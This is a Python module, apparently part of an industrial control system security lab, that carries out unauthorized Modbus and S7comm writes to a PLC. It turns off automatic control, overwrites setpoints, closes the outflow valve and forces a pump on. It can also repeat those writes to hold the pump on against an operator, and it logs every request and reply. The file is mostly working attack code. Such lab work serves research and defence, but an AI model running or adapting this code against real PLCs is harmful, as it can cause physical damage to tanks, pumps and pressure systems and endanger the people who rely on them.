"""Modbus command injection: unauthorized writes to a PLC's coils and setpoints.

Run inside the attacker host::

    python -m attacks.inject --plan PLAN.json --targets 10.0.0.21 --out inject.json \\
        [--engine pymodbus|scapy|s7] [--pump-on] [--auto-off] [--valve-close] \\
        [--set NAME=VALUE ...] [--process auto|tank|pressure] [--hold-s 0] [--period-s 1] \\
        [--port 502] [--unit-id 1] [--timeout-s 3]

The writes, in this order: ``auto_mode`` off (so the PLC logic stops driving the pump),
every ``--set`` (a coil or holding register by its register-map name, in engineering
units: ``--set level_high_sp=195``), ``valve_open`` off, the pump coil on (``pump_on`` on
the tank, ``pump_enable`` on the pressure station). Before writing it reads the PLC's
``process_id`` (input register 0) to pick the register map (unless ``--process`` names it)
and the tables it writes; after writing it reads them back. With ``--hold-s`` it repeats
the writes every ``--period-s`` for that long, as an attacker holding a pump on against an
operator would.

Engines (:mod:`attacks.modbus_client`):

- ``pymodbus``: the pymodbus 3.16 synchronous TCP client.
- ``scapy``: requests built with scapy's Modbus layers (``scapy.contrib.modbus``) and sent
  over a kernel TCP connection; replies framed by their MBAP length and decoded by scapy.
  The kernel's TCP (not scapy's) keeps the connection, so no firewall rule is needed to
  stop the kernel from resetting a hand-made handshake, and the host is left untouched.

Every request is recorded with its reply (a Modbus exception is data: ``outcome:
"exception"`` and its code), the raw frames for the scapy engine, and its latency. The
outcome also says whether the host's network state (iptables, addresses) is as before.

- ``s7``: an S7comm PLC (``--port 102``): the same writes as ``db_write`` of the tables
  data blocks with python-snap7's client (:mod:`attacks.s7_client`, ``docs/protocols.md``).

The impact is not the attacker's to see: :mod:`attacks.tank_impact` computes it afterwards
from the PLC's ground-truth CSV (time until the level leaves its band, alarms, spilled water).

What it cannot do: write several registers in one request (functions 15/16), write input
registers or discrete inputs (Modbus has no function for that), or authenticate (Modbus/TCP
has no authentication, which is the point).
"""

from __future__ import annotations

import argparse
import logging
import math
import time
from collections.abc import Sequence
from dataclasses import asdict, dataclass, field
from typing import Any

from attacks.inject_plan import parse_assignment, write_plan
from attacks.modbus_client import ENGINE_CLASSES, ENGINES, Exchange
from attacks.modbus_probe import PROCESS_ID_ADDRESS
from attacks.s7_client import S7Engine
from common.cli import positive_float
from common.errors import UserError
from common.hostenv import (
    AttackContext,
    AttackOutcome,
    attack_parser,
    run_attack,
    single_target,
)
from common.modbus import MODBUS_PORT, READ_INPUT_REGISTERS
from common.netstate import host_state_diff, snapshot_host
from plc.registers import MAPS, MAPS_BY_ID, Table

log = logging.getLogger(__name__)

PROCESSES = ("auto", *sorted(MAPS))
# Modbus engines, and ``s7``: the same writes to an S7 PLC's data blocks (attacks.s7_client).
ALL_ENGINES = {**ENGINE_CLASSES, "s7": S7Engine}
DEFAULT_TIMEOUT_S = 3.0
DEFAULT_PERIOD_S = 1.0
MAX_HOLD_S = 600.0
MAX_WRITES = 10_000
MIN_PERIOD_S = 0.05


@dataclass(kw_only=True)
class InjectOutcome(AttackOutcome):
    """The injection outcome: :class:`AttackOutcome` plus what was written and answered.

    process: the register map used (read from the PLC or given by --process).
    writes: the planned writes (:class:`WriteSpec`); exchanges: every request and reply.
    writes_ok / writes_refused: write replies that were normal / Modbus exceptions.
    readback: table -> values read after the writes.
    host_state_diff: differences of the host's network state after vs. before (empty).
    """

    engine: str
    target: str = ""
    port: int = MODBUS_PORT
    unit_id: int = 1
    process: str = ""
    process_id: int | None = None
    writes: list[dict[str, Any]] = field(default_factory=list)
    exchanges: list[Exchange] = field(default_factory=list)
    writes_ok: int = 0
    writes_refused: int = 0
    first_write_s: float | None = None
    last_write_s: float | None = None
    readback: dict[str, list[int]] = field(default_factory=dict)
    host_state_diff: list[str] = field(default_factory=list)


def build_parser() -> argparse.ArgumentParser:
    """The injection command line (see the module docstring)."""
    parser = attack_parser("attacks.inject",
                           "Unauthorized Modbus writes to a PLC's coils and setpoints.")
    parser.add_argument("--engine", choices=(*ENGINES, "s7"), default="pymodbus",
                        help="s7: an S7comm PLC (give --port 102)")
    parser.add_argument("--pump-on", action="store_true", help="force the pump coil on")
    parser.add_argument("--auto-off", action="store_true",
                        help="switch the auto_mode coil off (the logic stops driving the pump)")
    parser.add_argument("--valve-close", action="store_true",
                        help="close the outflow valve (tank)")
    parser.add_argument("--set", dest="assignments", action="append", default=[],
                        type=parse_assignment, metavar="NAME=VALUE",
                        help="write a coil or holding register by map name, engineering units "
                             "(repeatable)")
    parser.add_argument("--process", choices=PROCESSES, default="auto",
                        help="register map; auto reads process_id from the PLC")
    parser.add_argument("--hold-s", type=float, default=0.0,
                        help=f"repeat the writes for this long (0..{MAX_HOLD_S:g} s)")
    parser.add_argument("--period-s", type=positive_float, default=DEFAULT_PERIOD_S,
                        help="interval between repeated writes")
    parser.add_argument("--port", type=int, default=MODBUS_PORT)
    parser.add_argument("--unit-id", type=int, default=1)
    parser.add_argument("--timeout-s", type=positive_float, default=DEFAULT_TIMEOUT_S,
                        help="per-request reply timeout")
    return parser


def _rounds(args: argparse.Namespace) -> int:
    return 1 + int(args.hold_s // args.period_s) if args.hold_s > 0 else 1


def _validate(args: argparse.Namespace) -> None:
    if not 0 <= args.hold_s <= MAX_HOLD_S or not math.isfinite(args.hold_s):
        raise UserError(f"--hold-s {args.hold_s:g} outside 0..{MAX_HOLD_S:g}")
    if args.period_s < MIN_PERIOD_S:
        raise UserError(f"--period-s {args.period_s:g} below {MIN_PERIOD_S:g}")
    if not 1 <= args.port <= 65535:
        raise UserError(f"--port {args.port} outside 1..65535")
    if not 0 <= args.unit_id <= 255:
        raise UserError(f"--unit-id {args.unit_id} outside 0..255")
    single_target(args.plan, args.targets)
    maps = MAPS.values() if args.process == "auto" else [MAPS[args.process]]
    errors = []
    for register_map in maps:
        try:
            plan = write_plan(register_map, args.pump_on, args.auto_off, args.valve_close,
                              args.assignments)
        except ValueError as exc:
            errors.append(str(exc))
            continue
        if len(plan) * _rounds(args) > MAX_WRITES:
            raise UserError(f"{len(plan) * _rounds(args)} writes exceed the bound of "
                             f"{MAX_WRITES}: shorten --hold-s or lengthen --period-s")
    if len(errors) == len(list(maps)):
        raise UserError(errors[0])


def _new_outcome(args: argparse.Namespace, targets: tuple[str, ...]) -> InjectOutcome:
    return InjectOutcome(attack="inject", targets=list(targets), engine=args.engine,
                         target=targets[0], port=args.port, unit_id=args.unit_id)


def _body(ctx: AttackContext) -> None:
    args = ctx.args
    outcome = ctx.outcome
    assert isinstance(outcome, InjectOutcome)
    before = snapshot_host()
    engine = ALL_ENGINES[args.engine](outcome.target, args.port, args.unit_id,
                                      args.timeout_s)

    def send(function_code: int, address: int, purpose: str, value: int | None = None,
             count: int = 1, name: str = "") -> Exchange:
        ex = Exchange(t_s=round(ctx.elapsed_s(), 6), function_code=function_code,
                      address=address, purpose=purpose, request_value=value, count=count,
                      name=name)
        outcome.exchanges.append(ex)
        return engine.request(ex)

    try:
        engine.connect()
        if args.process == "auto":
            ex = send(READ_INPUT_REGISTERS, PROCESS_ID_ADDRESS, "identify", name="process_id")
            if ex.outcome != "ok" or not ex.values or ex.values[0] not in MAPS_BY_ID:
                raise RuntimeError(f"cannot identify the process: {ex.outcome} {ex.values} "
                                   f"{ex.error}")
            outcome.process_id = ex.values[0]
            register_map = MAPS_BY_ID[ex.values[0]]
        else:
            register_map = MAPS[args.process]
        outcome.process = register_map.process
        plan = write_plan(register_map, args.pump_on, args.auto_off, args.valve_close,
                          args.assignments)
        outcome.writes = [asdict(w) for w in plan]
        tables = sorted({w.table for w in plan})
        for table in tables:
            t = Table(table)
            send(t.read_function, 0, "read_before", count=register_map.count(t))
        rounds_start_s = ctx.elapsed_s()
        for round_index in range(_rounds(args)):
            wait_s = round_index * args.period_s - (ctx.elapsed_s() - rounds_start_s)
            if wait_s > 0:
                time.sleep(wait_s)
            for w in plan:
                ex = send(w.function_code, w.address, "write", value=w.raw, name=w.name)
                if outcome.first_write_s is None:
                    outcome.first_write_s = ex.t_s
                outcome.last_write_s = ex.t_s
                if ex.outcome == "ok":
                    outcome.writes_ok += 1
                elif ex.outcome == "exception":
                    outcome.writes_refused += 1
                else:
                    engine.close()
                    engine.connect()
        for table in tables:
            t = Table(table)
            ex = send(t.read_function, 0, "read_after", count=register_map.count(t))
            if ex.outcome == "ok":
                outcome.readback[table] = ex.values
        log.info("inject (%s): %d write(s) accepted, %d refused on %s (%s)", engine.name,
                 outcome.writes_ok, outcome.writes_refused, outcome.target, outcome.process)
    finally:
        engine.close()
        outcome.host_state_diff = host_state_diff(before)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the injection; returns the exit status (0 ok, 1 failed, 2 refused, 128+N signal N)."""
    return run_attack(parser=build_parser(), argv=argv, new_outcome=_new_outcome, body=_body,
                      validate=_validate)


if __name__ == "__main__":
    raise SystemExit(main())

